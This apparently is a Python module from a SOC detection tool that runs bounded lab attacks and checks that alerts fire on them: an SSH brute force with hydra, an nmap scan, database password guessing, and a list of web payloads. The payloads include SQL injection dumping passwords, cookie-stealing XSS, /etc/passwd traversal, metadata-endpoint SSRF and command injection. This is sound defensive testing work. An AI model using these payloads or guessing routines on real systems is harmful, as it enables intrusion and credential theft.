"""The demo's attacks on the lab, each through the collector and the detection engine to
grouped alerts:

* a real, bounded SSH password-guessing attack on a lab router, read from the router's own
  sshd log. hydra runs from the machine's side of the management bridge (the only place
  that reaches the lab hosts' management addresses), with a fixed number of guesses, 4
  tasks and a time limit; then the attacker logs in with the right password (sshpass reads
  it from stdin: never on a command line or in an environment variable of this process).
* a port scan (nmap, a fixed port range, no retries, a packet rate and a time limit) of a
  provisioned router, whose firewall logs the drops; read as the SOC reads them, from the
  router's file on the DC's log collector, where its rsyslog forwarded them.
* web attacks on the primary DC's portal (nginx, the web role): a fixed list of requests,
  one per attack class the agency's web-application tests list, and a benign client's;
  read from the web server's file on the collector, where nginx's syslog went.
* password guessing at the primary DC's database from the portal's web server beside it
  (what an attacker does next from a compromised portal): a fixed number of psql logins
  with wrong passwords, read from the database server's file on the collector, where its
  rsyslog forwarded PostgreSQL's log.

Every target is a lab address (198.18.0.0/15), checked before anything is sent.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from ipaddress import ip_address
from pathlib import Path
from typing import TYPE_CHECKING, Any

from socctl.config import Settings
from socctl.errors import LabError, SocctlError
from socctl.lab.plan import LAB_NETWORK

if TYPE_CHECKING:
    from socctl.collector.pipeline import ReplayResult
    from socctl.triage.store import Alert

TARGET = "p01-rtr1"


@dataclass(frozen=True)
class Attack:
    target: str
    attacker_ip: str
    guesses: int
    auth_log: str  # the target's sshd log after the attack


def _run_from(source: str | None, argv: list[str], timeout: float = 60,
              input_text: str | None = None) -> subprocess.CompletedProcess[str]:
    """``argv`` in the lab host ``source``, or on the machine when ``None``; output
    captured, the exit status the caller's to judge."""
    from socctl.lab import runtime

    if source is not None:
        return runtime.run_in(source, argv, timeout=timeout, input_text=input_text)
    return subprocess.run(argv, input=input_text, capture_output=True, text=True,
                          timeout=timeout, check=False)


def _lab_route(settings: Settings, target: str, source: str | None = None
               ) -> tuple[str, str]:
    """The target's address and the address a packet to it leaves ``source`` from (the
    machine's side of the management bridge when ``None``). From the machine, the target's
    management address; from a lab host, its loopback (a router) or LAN address (a server):
    hosts do not reach each other's management addresses; these are routed over the lab's
    links."""
    from socctl.lab import runtime

    host = runtime.load_plan(settings).host(target)
    address = host.management.ip if source is None \
        else host.loopback or (host.lan.ip if host.lan is not None else host.management.ip)
    target_ip = str(address)
    if ip_address(target_ip) not in LAB_NETWORK:
        raise LabError(f"{target} is at {target_ip}, outside the lab network {LAB_NETWORK}")
    done = _run_from(source, ["ip", "-o", "route", "get", target_ip])
    route = done.stdout.split()
    if done.returncode != 0 or "src" not in route:
        raise LabError(f"no route to {target} ({target_ip}) from {source or 'the machine'}: "
                       f"{done.stderr.strip() or done.stdout.strip()}")
    return target_ip, route[route.index("src") + 1]


def brute_force(settings: Settings, target: str = TARGET, guesses: int = 24,
                timeout: float = 90) -> Attack:
    """Guess ``netops``'s password on ``target`` ``guesses`` times, then log in."""
    from socctl.lab import runtime

    missing = [tool for tool in ("hydra", "sshpass") if shutil.which(tool) is None]
    if missing:
        raise LabError(f"{' and '.join(missing)} not installed", hint="./dev installs them")
    target_ip, attacker_ip = _lab_route(settings, target)
    with tempfile.TemporaryDirectory(prefix="socctl-attack-") as work:
        words = Path(work) / "guesses.txt"
        words.write_text("\n".join(f"Winter2026!{i}" for i in range(guesses)) + "\n")
        # Two guesses per connection: hydra goes on guessing on one connection until sshd
        # cuts it at MaxAuthTries (3 on strict hosts, 6 on others), then waits ~30 s
        # before it tries the cut guess again (24 guesses on 4 tasks took 50 s, not 12).
        tasks = max(1, min(16, -(-guesses // 2)))
        subprocess.run(["hydra", "-l", "netops", "-P", str(words), "-t", str(tasks), "-I",
                        "-q", f"ssh://{target_ip}"], capture_output=True, text=True,
                       timeout=timeout, check=False)
    password = runtime.lab_secrets(runtime.LabPaths.of(settings))["netops_password"]
    subprocess.run([
        "sh", "-c", 'SSHPASS="$(cat)" exec sshpass -e ssh -o StrictHostKeyChecking=no '
        "-o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password "
        f"-o PubkeyAuthentication=no -o ConnectTimeout=5 netops@{target_ip} 'show version'"],
        input=password, capture_output=True, text=True, timeout=30, check=False)
    log = runtime.run_in(target, ["sh", "-c", "cat /var/log/auth.log 2>/dev/null || "
                                  "grep sshd /var/log/syslog"]).stdout
    return Attack(target, attacker_ip, guesses, log)


COLLECTOR = "dc-primary-log1"
COLLECTOR_DIR = "/var/log/remote"
"""Where the log_collector role's rsyslog writes each sender's file (``log_collector_dir``)."""
DROP_PREFIX = "socctl-fw drop"
"""The firewall role's log prefix (``firewall_log_prefix``) on each dropped packet."""


@dataclass(frozen=True)
class Scan:
    target: str
    target_ip: str
    scanner: str  # a lab host, or "the machine" (the management bridge)
    scanner_ip: str
    ports: int
    drops: int  # this scan's drops the collector received
    collected: str  # the target's file on the log collector after the scan


def port_scan(settings: Settings, target: str = TARGET, ports: int = 100,
              source: str | None = None, collector: str = COLLECTOR,
              timeout: float = 60) -> Scan:
    """A SYN scan of ports 1..``ports`` of ``target`` from ``source`` (a lab host, or the
    machine when ``None``), then the target's file on ``collector`` once the drops it
    forwarded stop arriving. nmap sends each probe once, at most 300 packets a second,
    and gives up on the host after 30 s."""
    if shutil.which("nmap") is None:
        raise LabError("nmap not installed", hint="./dev installs it")
    if not 1 <= ports <= 1024:
        raise LabError(f"ports must be 1-1024 (a bounded scan), got {ports}")
    target_ip, scanner_ip = _lab_route(settings, target, source)
    path, before = _collector_file(collector, target)
    argv = ["nmap", "-n", "-Pn", "-sS", "-p", f"1-{ports}", "--max-retries", "0",
            "--max-rate", "300", "--host-timeout", "30s", target_ip]
    done = _run_from(source, argv, timeout=timeout)
    if done.returncode != 0:
        raise LabError(f"nmap from {source or 'the machine'} to {target_ip} failed "
                       f"(exit {done.returncode}): {done.stderr.strip()[-300:]}")
    mark = f"SRC={scanner_ip} "
    text, seen = _collected(collector, path, before,
                            lambda line: DROP_PREFIX in line and mark in line)
    return Scan(target, target_ip, source or "the machine", scanner_ip, ports, seen, text)


def _collector_file(collector: str, host: str) -> tuple[str, int]:
    """``host``'s file on ``collector`` (where its rsyslog's messages land) and how many
    lines it has already: what a step sends is counted after them."""
    from socctl.lab import runtime

    path = f"{COLLECTOR_DIR}/{host}.log"
    return path, runtime.run_in(collector, ["cat", path]).stdout.count("\n")


def _collected(collector: str, path: str, before: int, wanted: Callable[[str], bool],
               expect: int | None = None, timeout: float = 20) -> tuple[str, int]:
    """``path`` on ``collector`` once the lines after the first ``before`` that are
    ``wanted`` stop arriving (or ``expect`` of them have), and how many there are:
    forwarded over RELP, they come a second or two behind."""
    from socctl.lab import runtime

    text, seen, last_change = "", -1, time.monotonic()
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        text = runtime.run_in(collector, ["cat", path]).stdout
        count = sum(1 for line in text.splitlines()[before:] if wanted(line))
        if expect is not None and count >= expect:
            return text, count
        if count != seen:
            seen, last_change = count, time.monotonic()
        elif count > 0 and time.monotonic() - last_change > 2:
            break
        time.sleep(0.3)
    return text, max(seen, 0)


WEB_TARGET = "dc-primary-web1"
WEB_ATTACKS: tuple[tuple[str, str, str], ...] = (
    # (attack, request target as sent, User-Agent): one request per attack class of the
    # agency's web-application tests that a web rule reads; paths of the public portal.
    ("sql injection", "/tra-cuu?ma=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
     "Mozilla/5.0"),
    ("cross-site scripting", "/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
     "Mozilla/5.0"),
    ("directory traversal", "/tai-lieu?file=../../../../etc/passwd", "Mozilla/5.0"),
    ("request forgery", "/xem-truoc?url=http://169.254.169.254/latest/meta-data/",
     "Mozilla/5.0"),
    ("command injection", "/kiem-tra?host=127.0.0.1;cat%20/etc/passwd", "Mozilla/5.0"),
    ("known-vulnerable component",
     "/fckeditor/editor/filemanager/connectors/uploadtest.html", "Mozilla/5.0"),
    ("vulnerability scanner", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
)
BENIGN_REQUESTS: tuple[tuple[str, str, str], ...] = (
    ("home page", "/", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
    ("look-up", "/tra-cuu?ma=0123456789", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
    ("search", "/tim-kiem?q=so%20bao%20hiem", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
)

# Sent from inside a lab host, with its Python (every lab host has it): each request once,
# as written (no client-side normalising of the path), a 5 s timeout each.
_HTTP_CLIENT = """
import http.client, json, sys
host, port, requests = json.load(sys.stdin)
statuses = []
for method, target, agent in requests:
    conn = http.client.HTTPConnection(host, port, timeout=5)
    try:
        body = b"user=admin&password=123456" if method == "POST" else None
        conn.putrequest(method, target, skip_accept_encoding=True)
        conn.putheader("User-Agent", agent)
        if body is not None:
            conn.putheader("Content-Type", "application/x-www-form-urlencoded")
            conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        statuses.append(conn.getresponse().status)
    except OSError as exc:
        statuses.append(str(exc))
    finally:
        conn.close()
print(json.dumps(statuses))
"""

LOGIN_GUESSES = 40
"""Password guesses the web step posts to the portal's login form, as fast as they are
answered: the web role's login limit lets the first 20 or so through and answers the
rest 429, which the error log names and web_login_throttled counts."""
LOGIN_PATH = "/dang-nhap"
GUESSER_AGENT = "Mozilla/5.0 (Hydra)"


@dataclass(frozen=True)
class WebAttack:
    target: str
    target_ip: str
    attacker: str
    attacker_ip: str
    benign_ip: str
    requests: int  # the attacker's requests, then the benign client's
    statuses: list[int | str]  # as the portal answered each: attacks, guesses, benign
    logged: int  # the lines the collector received: every request's, every refusal's
    guesses: int  # the attacker's login guesses (after its attacks)
    throttled: int  # of the guesses, those the login limit answered 429
    collected: str  # the web server's file on the log collector afterwards


def web_attack(settings: Settings, target: str = WEB_TARGET, attacker: str = TARGET,
               benign: str | None = "dc-primary-db1", collector: str = COLLECTOR,
               port: int = 80) -> WebAttack:
    """:data:`WEB_ATTACKS` and :data:`LOGIN_GUESSES` from ``attacker``, then
    :data:`BENIGN_REQUESTS` from ``benign`` (a lab host, or the machine when ``None``) to
    ``target``'s portal; the target's file on ``collector`` once its nginx lines (access and
    error log) stop arriving."""

    def send(source: str | None, requests: list[tuple[str, str, str]]
             ) -> tuple[str, str, list[int | str]]:
        target_ip, source_ip = _lab_route(settings, target, source)
        payload = json.dumps([target_ip, port, requests])
        argv = [sys.executable if source is None else "python3", "-c", _HTTP_CLIENT]
        done = _run_from(source, argv, timeout=60, input_text=payload)
        if done.returncode != 0:
            raise LabError(f"HTTP requests from {source or 'the machine'} to {target} "
                           f"({target_ip}) failed: {done.stderr.strip()[-300:]}")
        return target_ip, source_ip, json.loads(done.stdout)

    path, before = _collector_file(collector, target)
    attacks = [("GET", url, agent) for _, url, agent in WEB_ATTACKS]
    guesses = [("POST", LOGIN_PATH, GUESSER_AGENT)] * LOGIN_GUESSES
    target_ip, attacker_ip, statuses = send(attacker, attacks + guesses)
    _, benign_ip, benign_statuses = send(benign, [("GET", url, agent)
                                                  for _, url, agent in BENIGN_REQUESTS])
    throttled = statuses[len(attacks):].count(429)
    # access lines start with the address, ident and user; error lines name the client
    sources = (f" {attacker_ip} - ", f" {benign_ip} - ", f"client: {attacker_ip},")
    expect = len(attacks) + len(guesses) + len(BENIGN_REQUESTS) + throttled
    text, logged = _collected(collector, path, before,
                              lambda line: "nginx" in line
                              and any(mark in line for mark in sources), expect)
    return WebAttack(target, target_ip, attacker, attacker_ip, benign_ip,
                     len(WEB_ATTACKS), statuses + benign_statuses, logged, LOGIN_GUESSES,
                     throttled, text)


DB_TARGET = "dc-primary-db1"
DB_ATTACKER = "dc-primary-web1"
DB_GUESSES = 8
DB_USER = "socctl_app"


@dataclass(frozen=True)
class DbGuessing:
    target: str
    target_ip: str
    attacker: str
    attacker_ip: str
    guesses: int
    refused: int  # of the guesses, those psql reports refused for the password
    logged: int  # the refusals the collector received
    collected: str  # the database server's file on the log collector afterwards


def db_guessing(settings: Settings, target: str = DB_TARGET, attacker: str = DB_ATTACKER,
                guesses: int = DB_GUESSES, collector: str = COLLECTOR) -> DbGuessing:
    """``guesses`` psql logins as the application's database user with wrong passwords,
    from ``attacker`` to ``target``'s PostgreSQL, one at a time (5 s to connect each); the
    target's file on ``collector`` once its refusals stop arriving."""
    from socctl.backup.provision import PORT

    target_ip, attacker_ip = _lab_route(settings, target, attacker)
    path, before = _collector_file(collector, target)
    refused = 0
    for i in range(guesses):
        # the password is the guess itself: a lab secret it is not
        done = _run_from(attacker, ["env", f"PGPASSWORD=Guess2026!{i}", "PGCONNECT_TIMEOUT=5",
                                    "psql", "-X", "-w", "-h", target_ip, "-p", str(PORT),
                                    "-U", DB_USER, "-d", "postgres", "-c", "SELECT 1"],
                         timeout=30)
        if done.returncode != 0 and "password authentication failed" in done.stderr:
            refused += 1
        elif done.returncode == 0:
            raise LabError(f"the guess {i} logged in to {target} as {DB_USER}")
        else:
            raise LabError(f"psql from {attacker} to {target} ({target_ip}:{PORT}) failed "
                           f"otherwise: {done.stderr.strip()[-300:]}")
    text, logged = _collected(
        collector, path, before, lambda line: "postgres" in line and attacker_ip in line
        and "password authentication failed" in line, refused)
    return DbGuessing(target, target_ip, attacker, attacker_ip, guesses, refused, logged,
                      text)


def _replay_and_detect(settings: Settings, scratch: str, name: str, text: str
                       ) -> tuple[ReplayResult, list[Alert], Path]:
    """``collect replay`` of ``text`` (a syslog file) + ``detect run --all``, in a fresh
    scratch state directory ``<state>/demo/<scratch>``; the alerts, as ``alerts list``."""
    from socctl.collector.pipeline import replay_files, store_path
    from socctl.detection.runner import Detector, open_db
    from socctl.triage.store import AlertStore

    local = settings.demo_scratch(scratch)
    log = local.state_dir / name
    log.write_text(text, encoding="utf-8")
    replayed = replay_files(local, "auth", [log])
    conn = open_db(store_path(local))
    try:
        Detector.from_path(settings.project_root / "detections",
                           timezone=settings.timezone).run(conn)
        alerts = AlertStore(conn).query()
    finally:
        conn.close()
    return replayed, alerts, store_path(local)


def _detected(settings: Settings, scratch: str, name: str, text: str, entity_ip: str,
              what: str) -> tuple[ReplayResult, list[Alert], dict[str, Any]]:
    """:func:`_replay_and_detect`, the alerts on ``entity_ip`` and the step's details
    (every alert, the store): no alert on it is the step's failure, told with ``what``
    (what was sent and what the collector had)."""
    replayed, alerts, store = _replay_and_detect(settings, scratch, name, text)
    on_entity = [a for a in alerts if entity_ip in str(a.entity)]
    if not on_entity:
        raise SocctlError(f"no alert on {entity_ip} after {what}, {replayed.stored} events "
                          "stored")
    return replayed, on_entity, {"alerts": [a.to_dict() for a in alerts],
                                 "store": str(store)}


def _titles(alerts: list[Alert]) -> str:
    return "; ".join(f"{a.rule_title} ({a.count} events)" for a in alerts)


def demo_scan(settings: Settings) -> tuple[str, dict[str, Any]]:
    """A port scan of the provisioned province router, detected from what its firewall
    logged and the DC's collector received."""
    scan = port_scan(settings)
    _, on_scanner, details = _detected(
        settings, "scan", f"{scan.target}.log", scan.collected, scan.scanner_ip,
        f"a scan of {scan.ports} ports of {scan.target} ({scan.drops} drops logged on "
        f"{COLLECTOR})")
    return (f"nmap: {scan.ports} ports of {scan.target} from {scan.scanner_ip}; its firewall "
            f"logged {scan.drops} drops, forwarded to {COLLECTOR} -> "
            f"{len(details['alerts'])} alert(s): {_titles(on_scanner)}"), details


def demo_attack(settings: Settings) -> tuple[str, dict[str, Any]]:
    """Attack, then `collect replay` + `detect run --all` + `alerts list` in a scratch
    state directory (``<state>/demo/detect``); the analyst's view is one alert per
    attack, on the attacker."""
    attack = brute_force(settings)
    replayed, on_attacker, details = _detected(
        settings, "detect", f"{attack.target}-auth.log", attack.auth_log, attack.attacker_ip,
        f"{attack.guesses} guesses")
    return (f"hydra: {attack.guesses} guesses + a login on {attack.target} from "
            f"{attack.attacker_ip}; {replayed.stored} sshd events -> "
            f"{len(details['alerts'])} alert(s): {_titles(on_attacker)}"), details


def demo_web(settings: Settings) -> tuple[str, dict[str, Any]]:
    """Web attacks on the primary DC's portal, detected from what its nginx logged and the
    DC's collector received; the benign client earns no alert."""
    attack = web_attack(settings)
    _, on_attacker, details = _detected(
        settings, "web", f"{attack.target}.log", attack.collected, attack.attacker_ip,
        f"{attack.requests} attack requests to {attack.target} ({attack.logged} lines on "
        f"{COLLECTOR})")
    rules = sorted({a.rule_title for a in on_attacker})
    return (f"{attack.requests} attack requests and {attack.guesses} login guesses "
            f"({attack.throttled} refused by the login limit) from {attack.attacker} "
            f"({attack.attacker_ip}) to the portal on {attack.target}, and a benign client's; "
            f"{attack.logged} nginx lines forwarded to {COLLECTOR} -> {len(rules)} "
            f"rule(s) on the attacker: {'; '.join(rules)}"), details


def demo_db(settings: Settings) -> tuple[str, dict[str, Any]]:
    """Password guessing at the primary DC's database from the portal's server, detected
    from what PostgreSQL logged and the DC's collector received."""
    attack = db_guessing(settings)
    _, on_attacker, details = _detected(
        settings, "db", f"{attack.target}.log", attack.collected, attack.attacker_ip,
        f"{attack.guesses} database logins of {attack.attacker} refused ({attack.logged} "
        f"on {COLLECTOR})")
    return (f"psql: {attack.guesses} wrong passwords for {DB_USER} from {attack.attacker} "
            f"({attack.attacker_ip}) to {attack.target}, {attack.refused} refused; PostgreSQL's "
            f"log forwarded to {COLLECTOR} ({attack.logged} refusals) -> "
            f"{_titles(on_attacker)}"), details
